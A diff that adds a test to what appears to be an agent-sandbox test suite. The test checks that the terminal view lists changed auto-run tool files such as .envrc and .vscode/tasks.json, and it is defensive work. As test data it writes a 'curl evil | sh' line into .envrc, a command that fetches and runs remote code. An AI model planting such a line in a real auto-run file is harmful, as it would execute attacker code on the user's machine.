@@ -111,6 +111,16 @@ describeSandbox('the agent’s own home', () => {
     expect(plain).not.toHaveProperty('sandbox');
   });
 
+  it('tells the person, on the terminal’s view, which files their tools run on their own it changed', async () => {
+    const t = await open('homer');
+    expect(f.host.get(t.id).view()).not.toHaveProperty('toolFilesChanged');
+    await send('homer', t.id, 'echo "curl evil | sh" > .envrc && mkdir -p .vscode && echo "{}" > .vscode/tasks.json && echo "all:" > Makefile');
+    expect(f.host.get(t.id).view().toolFilesChanged).toEqual(['.envrc', '.vscode/tasks.json']);
+    await send('homer', t.id, 'echo again >> .envrc');
+    expect(f.host.get(t.id).view().toolFilesChanged).toEqual(['.envrc', '.vscode/tasks.json']);
+    await send('homer', t.id, 'rm -rf .envrc .vscode Makefile');
+  });
+
   it('runs the person’s startup files, with their PATH, and prints no error of the sandbox', async () => {
     const t = await open('homer');
     expect(t.banner ?? '').not.toMatch(/writable|Permission denied|Read-only/);
